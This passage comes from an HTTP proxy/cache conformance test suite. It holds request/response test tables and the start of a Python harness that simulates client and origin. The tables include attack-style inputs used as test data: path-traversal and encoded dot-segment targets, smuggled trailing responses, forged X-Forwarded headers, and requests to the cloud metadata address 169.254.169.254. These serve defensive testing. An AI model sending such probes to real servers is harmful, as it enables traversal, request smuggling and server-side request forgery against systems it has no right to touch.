# ---- reuse of connections to the origin ----
case a connection is used again after Content-Length
> $G\r\n
= 200 ok
upstream kept
case a connection is used again after chunked
> $G\r\n
< $OK$TE\r\n2\r\nok\r\n0\r\n\r\n
= 200 ok
upstream kept
case a connection is used again after HEAD
> HEAD $T/ HTTP/1.1\r\n$H\r\n
=head 200
upstream kept
case a connection is used again after 304
> $G\r\n
< HTTP/1.1 304 Not Modified\r\nETag: "a"\r\n\r\n
= 304 ""
upstream kept
case a connection is used again after a request with content
> $C2\r\nab\r\n0\r\n\r\n
= 200 ok
upstream kept
case a connection that says close is not used again
> $G\r\n
< $OKConnection: close\r\n$CL 2\r\n\r\nok
= 200 ok
upstream closed
case a connection that says close among others is not used again
> $G\r\n
< $OKConnection: x, CLOSE\r\n$CL 2\r\n\r\nok
= 200 ok
upstream closed
case a connection of a 1.0 answer is not used again
> $G\r\n
< HTTP/1.0 200 OK\r\n$CL 2\r\n\r\nok
= 200 ok
upstream closed
case octets after an answer do not answer the next request
> $G\r\n
< $OK2$EVIL
= 200 ok
upstream closed
case octets after an answer do not answer a pipelined request
once
> $G\r\nGET $T/second HTTP/1.1\r\n$H\r\n
< $OK2$EVIL
< $OK$CL 6\r\n\r\nsecond
= 200 ok
= 200 second
case octets after a chunked answer do not answer the next request
> $G\r\n
< $OK$TE\r\n2\r\nok\r\n0\r\n\r\n$EVIL
= 200 ok
upstream closed
case octets that come later do not answer the next request
> $G\r\n
< $OK2
<+ $EVIL
= 200 ok
> GET $T/second HTTP/1.1\r\n$H\r\n
< $OK$CL 6\r\n\r\nsecond
= 200 second
case one octet after an answer spoils the connection
> $G\r\n
< $OK2\n
= 200 ok
upstream closed
case an empty line after an answer spoils the connection
> $G\r\n
< $OK2\r\n
= 200 ok
upstream closed
case an answer before it was asked for is not used
fresh
> $G\r\n
< $OK2
<+ HTTP/1.1 200 OK\r\n$CL 4\r\n\r\nevil
= 200 ok
> HEAD $T/ HTTP/1.1\r\n$H\r\n
=head 200
has Content-Length: 2

:group reverse
# ---- what is so in reverse mode only ----
405 CONNECT :: CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
400|405 CONNECT without a port :: CONNECT a.example HTTP/1.1\r\n$H\r\n
400|405 CONNECT with a path :: CONNECT / HTTP/1.1\r\n$H\r\n
case OPTIONS with an asterisk
> OPTIONS * HTTP/1.1\r\n$H\r\n
= 200 ok
@ OPTIONS * HTTP/1.1
case OPTIONS with an asterisk and Max-Forwards 0
> OPTIONS * HTTP/1.1\r\n$HMax-Forwards: 0\r\n\r\n
= 200
@count 0
case two slashes at the beginning are a path
> GET //b.example/a HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET //b.example/a HTTP/1.1
has Host: $HOST
case a path may hold a URL
> GET /http://b.example/ HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /http://b.example/ HTTP/1.1
400 a dot segment :: GET /a/./b HTTP/1.1\r\n$H\r\n
400 a dot segment at the end :: GET /a/. HTTP/1.1\r\n$H\r\n
400 a double-dot segment :: GET /a/../b HTTP/1.1\r\n$H\r\n
400 a double-dot segment first :: GET /../etc HTTP/1.1\r\n$H\r\n
400 a double-dot segment at the end :: GET /a/.. HTTP/1.1\r\n$H\r\n
400 a double-dot segment before a query :: GET /a/..?b HTTP/1.1\r\n$H\r\n
400 an escaped dot segment :: GET /a/%2e/b HTTP/1.1\r\n$H\r\n
400 an escaped double-dot segment :: GET /a/%2e%2E/b HTTP/1.1\r\n$H\r\n
400 a half escaped double-dot segment :: GET /a/.%2e/b HTTP/1.1\r\n$H\r\n
400 an escaped double-dot segment at the end :: GET /a/%2e%2e HTTP/1.1\r\n$H\r\n
400 a backslash in the path :: GET /a\\b HTTP/1.1\r\n$H\r\n
400 an escaped backslash in the path :: GET /a%5cb HTTP/1.1\r\n$H\r\n
400 an escaped backslash in upper case :: GET /a%5C..%5Cb HTTP/1.1\r\n$H\r\n
400 an escaped NUL in the path :: GET /a%00b HTTP/1.1\r\n$H\r\n
400 a malformed escape :: GET /%zz HTTP/1.1\r\n$H\r\n
400 a malformed second digit :: GET /%4g HTTP/1.1\r\n$H\r\n
400 an escape cut at the end :: GET /a%4 HTTP/1.1\r\n$H\r\n
400 a percent sign at the end :: GET /a% HTTP/1.1\r\n$H\r\n
400 an escape cut by the query :: GET /a%2?b HTTP/1.1\r\n$H\r\n
400 a dot segment in the absolute-form :: GET http://$HOST/a/../b HTTP/1.1\r\n$H\r\n
case a double-dot segment between escaped slashes
> GET /a%2f..%2fb HTTP/1.1\r\n$H\r\n
= 200|400
@count 0-1
end any
case double escapes are not decoded twice
> GET /a/%252e%252e/%2500 HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a/%252e%252e/%2500 HTTP/1.1
case dots, backslashes and NULs in a query pass
> GET /a?../\\%00%5c%zz% HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a?../\\%00%5c%zz% HTTP/1.1
case a 1.0 client without Host
> GET / HTTP/1.0\r\n\r\n
= 200 ok
@ GET / HTTP/1.1
end closed
case an empty Host
> GET / HTTP/1.1\r\nHost:\r\n\r\n
= 200|400
@count 0-1
end any
case Host with a port passes
> GET / HTTP/1.1\r\nHost: a.example:8080\r\n\r\n
= 200 ok
@ *
has Host: a.example:8080
case Host with an IPv6 address passes
> GET / HTTP/1.1\r\nHost: [2001:db8::1]:8080\r\n\r\n
= 200 ok
@ *
has Host: [2001:db8::1]:8080
case Host with an underscore passes
> GET / HTTP/1.1\r\nHost: a_b.example\r\n\r\n
= 200 ok
@ *
has Host: a_b.example
case Host with an empty port
> GET / HTTP/1.1\r\nHost: a.example:\r\n\r\n
= 200|400
@count 0-1
end any
case the absolute-form with an IPv6 address
> GET http://[2001:db8::1]:81/a HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a HTTP/1.1
has Host: [2001:db8::1]:81
case X-Forwarded-* and Forwarded are added
> $G\r\n
= 200 ok
@ *
has X-Forwarded-For: 127.0.0.1
has X-Forwarded-Proto: http
has X-Forwarded-Host: $HOST
has Forwarded: *
case foreign X-Forwarded-* and Forwarded are replaced
> $GX-Forwarded-For: 6.6.6.6\r\nx-forwarded-for: 7.7.7.7\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Host: evil\r\nForwarded: for=6.6.6.6\r\n\r\n
= 200 ok
@ *
has X-Forwarded-For: 127.0.0.1
has X-Forwarded-Proto: http
has X-Forwarded-Host: $HOST
case X-Forwarded-* cannot be nominated away
> $GConnection: X-Forwarded-For, X-Forwarded-Proto, X-Forwarded-Host, Forwarded, Via\r\n\r\n
= 200 ok
@ *
has X-Forwarded-For: 127.0.0.1
has X-Forwarded-Proto: http
has X-Forwarded-Host: $HOST
has Via: 1.1 proxy (*

:group forward
# ---- what is so in forward mode only ----
400|404|421 the origin-form :: GET / HTTP/1.1\r\n$H\r\n
400|404|421 the origin-form with two slashes :: GET //$ORIGIN/ HTTP/1.1\r\n$H\r\n
case a path goes on as received
> GET $T/a/./b/../%2e%2e/%zz/\\%00% HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a/./b/../%2e%2e/%zz/\\%00% HTTP/1.1
case forward mode adds nothing but Via
> $G\r\n
= 200 ok
@ GET / HTTP/1.1
lacks X-Forwarded-For X-Forwarded-Proto X-Forwarded-Host Forwarded X-Real-IP
has Via: 1.1 proxy (*
case foreign X-Forwarded-* pass
> $GX-Forwarded-For: 6.6.6.6\r\nForwarded: for=6.6.6.6\r\n\r\n
= 200 ok
@ *
has X-Forwarded-For: 6.6.6.6
has Forwarded: for=6.6.6.6
case X-Forwarded-For cannot be nominated away
> $GX-Forwarded-For: 6.6.6.6\r\nConnection: X-Forwarded-For\r\n\r\n
= 200 ok
@ *
has X-Forwarded-For: 6.6.6.6
case the target's authority replaces an empty Host
> GET $T/ HTTP/1.1\r\nHost:\r\n\r\n
= 200|400
@count 0-1
end any
case an origin that refuses connections
> GET http://$DEAD/ HTTP/1.1\r\nHost: $DEAD\r\n\r\n
= 502
@count 0
end any
case an origin that refuses connections and content
> POST http://$DEAD/ HTTP/1.1\r\nHost: $DEAD\r\n$CL 2\r\n\r\nab
= 502
@count 0
end any
case CONNECT makes a tunnel
> CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
=connect 200
lacks Content-Length Transfer-Encoding
> GET /in HTTP/1.1\r\nHost: in\r\n\r\n
< $OKX: 1\r\n$CL 2\r\n\r\nok
= 200 ok
has X: 1
lacks Via
@ GET /in HTTP/1.1
lacks Via
end skip
case octets after the CONNECT head belong to the tunnel
> CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\n\r\nGET /in HTTP/1.1\r\nHost: in\r\n\r\n
< $OKDate: x\r\n$CL 2\r\n\r\nok
=connect 200
= 200 ok
@ GET /in HTTP/1.1
has Host: in
lacks Via
end skip
case a tunnel passes half-closes and all octets
> CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
=connect 200
> GET /in HTTP/1.1\r\nHost: in\r\n\r\n
< HTTP/1.1 101 X\r\n\r\n
= 101
> a\0\r\n\xffb
=raw a\0\r\n\xffb
shut
=raw BYE
end closed
case CONNECT of a 1.0 client
> CONNECT $ORIGIN HTTP/1.0\r\n\r\n
=connect 200
> GET /in HTTP/1.1\r\nHost: in\r\n\r\n
< $OKDate: x\r\n$CL 2\r\n\r\nok
= 200 ok
end skip
case CONNECT to a port where nobody listens
> CONNECT $DEAD HTTP/1.1\r\nHost: $DEAD\r\n\r\n
=connect 502
@count 0
end any
400 CONNECT without a port in forward mode :: CONNECT 127.0.0.1 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n
400 CONNECT with an empty port :: CONNECT 127.0.0.1: HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n
400 CONNECT with port 0 :: CONNECT 127.0.0.1:0 HTTP/1.1\r\nHost: 127.0.0.1:0\r\n\r\n
400 CONNECT with port 65536 :: CONNECT 127.0.0.1:65536 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n
400 CONNECT with letters for a port :: CONNECT 127.0.0.1:http HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n
400 CONNECT with a sign in the port :: CONNECT 127.0.0.1:+443 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n
400 CONNECT without a host :: CONNECT :443 HTTP/1.1\r\nHost: a.example\r\n\r\n
400 CONNECT with userinfo :: CONNECT u@$ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
400 CONNECT with a path after the port :: CONNECT $ORIGIN/ HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
400 CONNECT with the absolute-form :: CONNECT http://$ORIGIN/ HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
400 CONNECT with the origin-form :: CONNECT / HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
400 CONNECT with an asterisk :: CONNECT * HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
400 CONNECT with a query :: CONNECT $ORIGIN?a HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
400 CONNECT with an unclosed address :: CONNECT [::1:443 HTTP/1.1\r\nHost: a.example\r\n\r\n
400 CONNECT with a bare IPv6 address :: CONNECT ::1:443 HTTP/1.1\r\nHost: a.example\r\n\r\n
400 CONNECT without Host in 1.1 :: CONNECT $ORIGIN HTTP/1.1\r\n\r\n
400 CONNECT with two Host :: CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\nHost: $ORIGIN\r\n\r\n
case CONNECT in lower case is no CONNECT
> connect http://$ORIGIN/x HTTP/1.1\r\n$H\r\n
= 200 ok
@ connect /x HTTP/1.1
400|501 CONNECT with chunked content :: CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\n$TEContent-Length: 5\r\n\r\n0\r\n\r\n
508~ the proxy does not connect to itself :: GET http://$SELF/ HTTP/1.1\r\nHost: $SELF\r\n\r\n
508~ the proxy does not tunnel to itself :: CONNECT $SELF HTTP/1.1\r\nHost: $SELF\r\n\r\n
403~ a link-local address is guarded :: GET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n
403~ a link-local address within IPv6 is guarded :: GET http://[::ffff:169.254.169.254]/ HTTP/1.1\r\nHost: [::ffff:a9fe:a9fe]\r\n\r\n
403~ the unspecified address is guarded :: CONNECT 0.0.0.0:443 HTTP/1.1\r\nHost: 0.0.0.0:443\r\n\r\n

:group forward -u user:secret
# ---- credentials (9110, 11) ----
case no credentials for the proxy
> $G\r\n
= 407
has Proxy-Authenticate: Basic *
end skip
@count 0
case wrong credentials for the proxy
> $GProxy-Authorization: Basic dXNlcjp3cm9uZw==\r\n\r\n
= 407
end skip
@count 0
case credentials for the proxy are consumed
> $GProxy-Authorization: Basic dXNlcjpzZWNyZXQ=\r\nAuthorization: Basic YTpi\r\n\r\n
= 200 ok
@ GET / HTTP/1.1
lacks Proxy-Authorization
has Authorization: Basic YTpi
end skip
case the scheme of credentials in any case
> $GProxy-Authorization: bASIC dXNlcjpzZWNyZXQ=\r\n\r\n
= 200 ok
end skip
case credentials of another scheme
> $GProxy-Authorization: Bearer dXNlcjpzZWNyZXQ=\r\n\r\n
= 407
end skip
@count 0
case credentials that are no base64
> $GProxy-Authorization: Basic !!!!\r\n\r\n
= 400|407
end skip
@count 0
case two Proxy-Authorization
> $GProxy-Authorization: Basic dXNlcjp3cm9uZw==\r\nProxy-Authorization: Basic dXNlcjpzZWNyZXQ=\r\n\r\n
= 400|407
end skip
@count 0
case CONNECT without credentials
> CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\n\r\n
=connect 407
has Proxy-Authenticate: Basic *
end skip
@count 0
case CONNECT with credentials
> CONNECT $ORIGIN HTTP/1.1\r\nHost: $ORIGIN\r\nProxy-Authorization: Basic dXNlcjpzZWNyZXQ=\r\n\r\n
=connect 200
end skip

:group reverse -u user:secret
case no credentials
> $G\r\n
= 401
has WWW-Authenticate: Basic *
end skip
@count 0
case credentials are consumed
> $GAuthorization: Basic dXNlcjpzZWNyZXQ=\r\n\r\n
= 200 ok
@ *
lacks Authorization
end skip
case credentials cannot be nominated away
> $GConnection: Authorization\r\nAuthorization: Basic dXNlcjpzZWNyZXQ=\r\n\r\n
= 200 ok
@ *
lacks Authorization
end skip
case content without credentials
> $P$CL 5\r\n\r\nhello
= 401
end skip
@count 0

:group both --max header=2k,body=10
# ---- limits that are set ----
431~ a header section beyond the limit :: $GA: \{3000:v}\r\n\r\n
413~ content beyond the limit :: $P$CL 11\r\n\r\n12345678901
413 content far beyond the limit is not waited for :: $P$CL 1000000000000\r\n\r\n
case content at the limit
> $P$CL 10\r\n\r\n1234567890
= 200 ok
@ *
content 1234567890
413~ chunked content beyond the limit :: $Cb\r\n12345678901\r\n0\r\n\r\n
413~ chunked content beyond the limit in many chunks :: $C\{6:2\r\nab\r\n}0\r\n\r\n
case chunked content at the limit
> $C5\r\n12345\r\n5\r\n67890\r\n0\r\n\r\n
= 200 ok
@ *
content 1234567890

:group both -t head=200ms,response=200ms,idle=200ms,keepalive=200ms
# ---- nobody waits for ever ----
case a client that says nothing
= none|408
@count 0
end closed
case a head that does not end
> GET $T/ HTTP/1.1\r\nHost: a
= none|408
@count 0
end closed
case content that does not come
> $P$CL 10\r\n\r\nabc
= none|408
@count 0
end closed
case chunked content that does not come
> $C5\r\nab
= none|408
@count 0
end closed
case a kept connection without a further request
> $G\r\n
= 200 ok
end closed
case an answer that does not come
> $G\r\n
< 
= 504
end any
upstream closed
case an answer's head that does not end
> $G\r\n
< HTTP/1.1 200 OK\r\nA:
= 504
end any
upstream closed
case interim answers and no more
> $G\r\n
< HTTP/1.1 103 A\r\nLink: 1\r\n\r\n
=1xx 504|none
end any
upstream closed
case an answer's content that does not come
> $G\r\n
< $OK$CL 10\r\n\r\nabc
=cut 200 abc
end any
upstream closed
case an answer's chunk that does not come
> $G\r\n
< $OK$TE\r\n5\r\nabc
=cut 200 abc
end any
upstream closed
RAW_CASES
}

cachecase_py() { cat <<'CACHECASE_PY'
# cachecase - play the client and the origin of a cache, and judge what it does
#
#   cachecase reverse|forward TABLE GROUP PIPE [keep|each [WORD]]
# says the origin's port, reads the proxy's port from the pipe, runs the cases of GROUP (or all) whose names
# have WORD; a case keeps its connection, or each request has one of its own.
#
#   case NAME          a case, with a URL of its own
#   only reverse       (or forward) it is for this mode alone
#   > METHOD TARGET | Name: value | body=TEXT         a request; what is left out is GET of the case's URL
#   < STATUS | Name: value | body=TEXT | OPTION       what the origin says if it is asked now, else as before
#   = HOW | CHECK | CHECK                             what must come of it
#   ~ SECONDS                                         time passes
# TARGET is appended to the case's URL; with a leading ! it is the whole target.
# OPTION: drop (closes without an answer), raw=OCTETS (in place of all), chunked, close, cut (half of the content),
#   reset (of the connection, after what was said), interim=STATUS Name: value, -Date, nap=SECONDS,
#   ranges (a Range is obeyed)
# HOW, with the step whose content it is (1 if none is named):
#   hit N              from the store, with an Age
#   miss               asked once, as it never was here
#   asked              asked, and the origin's content came
#   validated N        asked with a condition, content from the store
#   background N       from the store, and the origin is asked meanwhile
#   stale N            from the store, whether the origin was asked or not
#   maybe N            hit or asked: both are right; the checks hold for a hit
#   local              not asked and not from the store
#   any
# CHECK: 200 or 200,304 (status)   Name: value   Name: 5..7   Name ~ EXPRESSION   -Name   body=TEXT   interim=STATUS,...
#   a leading @: the same of the request that the origin got; twice: it was asked so often: @@2
# {+9} is the date in 9 s, {+9 FORMAT} the same by strftime; {url} {path} {host} are the case's.
# fresh NAME :: ANSWER    is a case: asked, then hit;   stale and none likewise: asked, then asked again (none: without condition)
import asyncio, os, re, sys, time

mode, table, group, pipe = sys.argv[1:5]
keep = sys.argv[5:6] != ['each']
word = sys.argv[6] if len(sys.argv) > 6 else ''
FIX = '%a, %d %b %Y %H:%M:%S GMT'
cases, host, proxy, failures, failed = [], '', 0, 0, []


class Case:
    def __init__(self, name, where):
        self.name, self.group, self.only, self.steps = name, where, '', []
        self.id = len(cases) + 1
        self.path, self.now, self.asks = '/%d' % self.id, 0, []

    def fill(self, text):
        def one(m):
            if m[1] in ('path', 'host', 'url'):
                return {'path': self.path, 'host': host, 'url': 'http://' + host + self.path}[m[1]]
            return time.strftime((m[3] or FIX).strip(), time.gmtime(self.now + int(m[2])))
        return re.sub(r'\{(path|host|url|([+-]?\d+)( [^}]*)?)\}', one, text)

    def answer(self, n):
        while n > 1 and self.steps[n - 1].answer is None:
            n -= 1
        return self.steps[n - 1].answer or []

    def content(self, n):
        for item in self.answer(n):
            if item.startswith('body='):
                return self.fill(item[5:]).encode()
        return b'%d.%d' % (self.id, n)


class Step:
    def __init__(self, pause, request):
        self.pause, self.request, self.answer, self.want = pause, request, None, []


class Failure(Exception):
    pass


def octets(text):
    return text.encode('latin-1').decode('unicode_escape').encode('latin-1')


def items(text):
    return [i for i in (part.strip() for part in (' ' + text).split(' | ')) if i]


def load():
    where, case, pause = '', None, 0
    for line in open(table):
        line = line.rstrip('\n')
        verb, _, rest = line.partition(' ')
        if not line or verb == '#':
            continue
        if verb == ':group':
            where = rest
        elif verb in ('fresh', 'stale', 'none', 'case'):
            name, _, answer = rest.partition(' :: ')
            case = Case(name, where)
            cases.append(case)
            if verb != 'case':
                case.steps = [Step(0, []), Step(0, [])]
                case.steps[0].answer = items(answer)
                case.steps[0].want = ['asked']
                case.steps[1].want = ['hit'] if verb == 'fresh' else ['asked']
                if verb == 'none':
                    case.steps[1].want += ['@-If-None-Match', '@-If-Modified-Since']
        elif verb == 'only':
            case.only = rest
        elif verb == '~':
            pause = float(rest)
        elif verb == '>':
            case.steps.append(Step(pause, items(rest)))
            pause = 0
        elif verb == '<':
            case.steps[-1].answer = items(rest)
        elif verb == '=':
            case.steps[-1].want = items(rest)
        else:
            sys.exit('cachecase: what is this: ' + line)


def values(fields, name):
    return [v for k, v in fields if k.lower() == name.lower()]


async def read_fields(reader):
    fields, line = [], await reader.readuntil(b'\r\n')
    while line != b'\r\n':
        name, _, value = line.decode('latin-1').partition(':')
        fields.append((name, value.strip()))
        line = await reader.readuntil(b'\r\n')
    return fields


async def read_content(reader, fields, to_end):
    if [v for v in values(fields, 'Transfer-Encoding') if v.lower() == 'chunked']:
        content = b''
        while True:
            size = int((await reader.readuntil(b'\r\n')).split(b';')[0], 16)
            if not size:
                await read_fields(reader)
                return content
            content += await reader.readexactly(size)
            await reader.readexactly(2)
    length = values(fields, 'Content-Length')
    if length:
        return await reader.readexactly(int(length[0]))
    return await reader.read() if to_end else b''


async def origin(reader, writer):
    try:
        while True:
            start = (await reader.readuntil(b'\r\n')).decode('latin-1').split()
            fields = await read_fields(reader)
            await read_content(reader, fields, False)
            number = re.match(r'(?:http://[^/]*)?/(\d+)', start[1])
            case = cases[int(number[1]) % 10000 - 1]
            n = case.step
            case.asks.append((start[0], start[1], fields))
            if not await answer(case, n, start[0], fields, writer):
                break
    except (asyncio.IncompleteReadError, ConnectionError):
        pass
    finally:
        writer.close()


async def answer(case, n, method, asked, writer):
    spec = case.answer(n)
    conditional = values(asked, 'If-None-Match') or values(asked, 'If-Modified-Since')
    status, content = 200, case.content(n)
    if case.steps[n - 1].answer is None and case.steps[n - 1].want[:1] and case.steps[n - 1].want[0].startswith('validated'):
        status = 304
    lines, options = [], {}
    for item in spec:
        if re.match(r'\d\d\d$', item):
            status = int(item)
        elif item in ('-Date', 'drop', 'chunked', 'close', 'cut', 'reset', 'ranges') or re.match(r'(raw|body|nap|interim)=', item):
            options.setdefault(item.split('=')[0], []).append(case.fill(item.partition('=')[2]))
        else:
            lines.append(case.fill(item))
    if status == 304 and not conditional:
        status = 200
    span = re.match(r'bytes=(\d*)-(\d*)$', (values(asked, 'Range') or [''])[0])
    tag = [line[5:].strip() for line in lines if line.lower().startswith('etag:')]
    if 'ranges' in options and method == 'GET' and status == 200 and span and values(asked, 'If-Range') in ([], tag):
        first, last = span[1], span[2]
        first, last = (len(content) - int(last), len(content) - 1) if not first else (int(first), int(last or len(content) - 1))
        last = min(last, len(content) - 1)
        if first > last:
            status, lines, content = 416, lines + ['Content-Range: bytes */%d' % len(content)], b''
        else:
            status, lines, content = 206, lines + ['Content-Range: bytes %d-%d/%d' % (first, last, len(content))], content[first:last + 1]
    if 'nap' in options:
        await asyncio.sleep(float(options['nap'][0]))
    if 'drop' in options:
        return False
    if 'raw' in options:
        writer.write(octets(options['raw'][0]).replace(b'BODY', content))
        await writer.drain()
        return 'close' not in options
    out = ''
    for interim in options.get('interim', []):
        out += 'HTTP/1.1 %s Interim\r\n%s\r\n\r\n' % tuple((interim + ' ').split(' ', 1))
        out = out.replace(' \r\n\r\n', '\r\n\r\n').replace('\r\n\r\n\r\n', '\r\n\r\n')
    out += 'HTTP/1.1 %d Status\r\n' % status
    names = [line.split(':')[0].lower() for line in lines]
    if 'date' not in names and '-Date' not in options:
        out += 'Date: ' + time.strftime(FIX, time.gmtime()) + '\r\n'
    empty = status in (204, 304)
    if 'chunked' in options:
        out += 'Transfer-Encoding: chunked\r\n'
    elif 'close' not in options and not empty and 'content-length' not in names:
        out += 'Content-Length: %d\r\n' % len(content)
    out = (out + ''.join(line + '\r\n' for line in lines) + '\r\n').encode('latin-1')
    if not empty and method != 'HEAD':
        half = content[:len(content) // 2] if 'cut' in options else content
        if 'chunked' in options:
            out += b'%x\r\n%s\r\n' % (len(half), half) + (b'' if 'cut' in options else b'0\r\n\r\n')
        else:
            out += half
    writer.write(out)
    await writer.drain()
    if 'reset' in options:
        await asyncio.sleep(0.1)
        writer.transport.abort()
    return not ({'close', 'cut', 'reset'} & set(options))


class Client:
    def __init__(self):
        self.reader = self.writer = None

    async def ask(self, case, request):
        method, target, lines, content = 'GET', '', [], None
        for item in request:
            if item.startswith('body='):
                content = case.fill(item[5:]).encode()
            elif re.match(r'[^ :]+:', item) and not item.startswith(('/', '!', '?')):
                lines.append(case.fill(item).replace('\\x20', ' '))
            else:
                word = item.split(' ')
                method = word[0] if re.match(r'[A-Z-]+$', word[0]) else method
                target = word[-1] if not re.match(r'[A-Z-]+$', word[-1]) else target
        path = case.fill(target[1:]) if target.startswith('!') else case.path + target
        authority = host
        for line in lines:
            if line.lower().startswith('host:') and mode == 'forward':
                authority = line[5:].strip()
        if mode == 'forward' and path.startswith('/'):
            path = 'http://' + authority + path
        names = [line.split(':')[0].lower() for line in lines]
        if 'host' not in names:
            lines.insert(0, 'Host: ' + host)
        if content is not None or method in ('POST', 'PUT', 'PATCH'):
            lines.append('Content-Length: %d' % len(content or b''))
        out = ('%s %s HTTP/1.1\r\n' % (method, path) + ''.join(line + '\r\n' for line in lines) + '\r\n').encode('latin-1') + (content or b'')
        for again in (0, 1):
            if self.writer is None or self.writer.is_closing() or self.reader.at_eof():
                self.reader, self.writer = await asyncio.open_connection('127.0.0.1', proxy)
                again = 1
            try:
                self.writer.write(out)
                return await self.answer(method)
            except (asyncio.IncompleteReadError, ConnectionError) as e:
                self.writer.close()
                self.writer = None
                if again or getattr(e, 'partial', b''):
                    return 0, [], b'', [], True

    async def answer(self, method):
        interim = []
        while True:
            start = (await self.reader.readuntil(b'\r\n')).decode('latin-1')
            status = int(start[9:12])
            fields = await read_fields(self.reader)
            if status >= 200:
                break
            interim.append((status, fields))
        try:
            content, cut = b'', False
            if method != 'HEAD' and status not in (204, 304):
                content = await read_content(self.reader, fields, True)
        except (asyncio.IncompleteReadError, ConnectionError):
            cut = True
        if cut or not keep or 'close' in ','.join(values(fields, 'Connection')).lower():
            self.writer.close()
            self.writer = None
        return status, fields, content, interim, cut


def check_field(what, fields, where):
    if what.startswith('-'):
        if values(fields, what[1:]):
            raise Failure('%s has %s: %s' % (where, what[1:], values(fields, what[1:])))
        return
    m = re.match(r'([^ :~]+)(: ?| ~ )(.*)$', what)
    name, kind, want = m[1], m[2], m[3]
    got = ', '.join(values(fields, name)) if values(fields, name) else None
    span = re.match(r'(\d+)\.\.(\d+)$', want)
    if got is None:
        raise Failure('%s has no %s' % (where, name))
    if '~' in kind:
        good = re.search(want, got)
    elif span:
        good = got.isdigit() and int(span[1]) <= int(got) <= int(span[2])
    else:
        good = got == want
    if not good:
        raise Failure('%s has %s: %s, not %s' % (where, name, got, want))


def judge(case, n, got, asks):
    status, fields, content, interim, cut = got
    step = case.steps[n - 1]
    how, _, number = (step.want[0] if step.want else 'any').partition(' ')
    number = int(number) if number else 1
    checks = [case.fill(c) for c in step.want[1:]]
    head = next((r for r in step.request if re.match(r'HEAD\b', r)), None)
    mark = next((m for m in values(fields, 'Cache-Status') if 'proxy' in m), ', '.join(values(fields, 'Cache-Status')))
    conditional = asks and (values(asks[0][2], 'If-None-Match') or values(asks[0][2], 'If-Modified-Since'))
    if how == 'maybe':
        if asks:
            how, checks = 'asked', [c for c in checks if c.startswith('@')]
        else:
            how = 'hit'
    if how in ('hit', 'local') and asks:
        raise Failure('the origin was asked')
    if how in ('asked', 'validated', 'miss') and not asks:
        raise Failure('the origin was not asked')
    if how == 'miss' and len(asks) != 1:
        raise Failure('the origin was asked %d times' % len(asks))
    mine = any(re.match(r'If-(None-Match|Modified-Since):', r, re.I) for r in step.request)
    if how == 'miss' and conditional and not mine:
        raise Failure('the origin was asked with a condition')
    if how == 'validated' and not conditional:
        raise Failure('the origin was asked without a condition')
    if how in ('hit', 'background') and status not in (416,) and not (values(fields, 'Age') and values(fields, 'Age')[0].isdigit()):
        raise Failure('no Age in an answer from the store')
    if how in ('hit', 'background', 'stale') and not re.search('proxy; *hit' + ('|ttl=-' if how == 'stale' else ''), mark) and status != 416:
        raise Failure('Cache-Status of a hit: ' + (mark or 'none'))
    if how in ('asked', 'miss', 'validated') and (re.search(r'proxy; *hit', mark) or (status not in (502, 504) and 'fwd=' not in mark)):
        raise Failure('Cache-Status of what was asked: ' + (mark or 'none'))
    statuses = [c for c in checks if re.match(r'\d\d\d(,\d\d\d)*$', c)]
    wanted = statuses[0].split(',') if statuses else None
    source = n if how in ('asked', 'miss') else number
    if wanted is None and how != 'any':
        wanted = [re.match(r'\d\d\d$', i)[0] for i in case.answer(source) if re.match(r'\d\d\d$', i)] or ['200']
        if wanted == ['304'] and how == 'asked':
            wanted = ['200', '304']
    if wanted and str(status) not in wanted:
        raise Failure('the status is %d, not %s' % (status, ' or '.join(wanted)))
    body = [c[5:] for c in checks if c.startswith('body=')]
    if body:
        if content != body[0].encode():
            raise Failure('the content is %r, not %r' % (content[:100], body[0]))
    elif how in ('asked', 'miss', 'hit', 'validated', 'background', 'stale') and not head and status not in (204, 206, 304, 416, 502, 504) and 'drop' not in case.answer(n):
        raw = [i for i in case.answer(source) if i.startswith('raw=')]
        if content != case.content(source) and not raw:
            raise Failure('the content is %r, not that of step %d' % (content[:100], source))
    if cut and how != 'any':
        raise Failure('the answer was cut off')
    for c in checks:
        if c == 'cut':
            if not cut and status != 502:
                raise Failure('the answer was not cut off')
        elif c.startswith('interim='):
            if ','.join(str(s) for s, f in interim) != c[8:]:
                raise Failure('interim answers: %s' % [s for s, f in interim])
        elif c.startswith('@@'):
            if len(asks) != int(c[2:]):
                raise Failure('the origin was asked %d times' % len(asks))
        elif c.startswith('@'):
            if not asks:
                raise Failure('the origin was not asked')
            check_field(c[1:], asks[0][2], 'the request to the origin')
        elif not c.startswith('body=') and not re.match(r'\d\d\d(,\d\d\d)*$', c):
            check_field(c, fields, 'the answer')


async def play(case, gate):
    global failures
    async with gate:
        client, case.now = Client(), time.time()
        for n, step in enumerate(case.steps, 1):
            if step.pause:
                await asyncio.sleep(step.pause)
            case.step, case.asks, got = n, [], None
            try:
                got = await asyncio.wait_for(client.ask(case, step.request), 10)
                if step.want and step.want[0].startswith('background'):
                    for i in range(200):
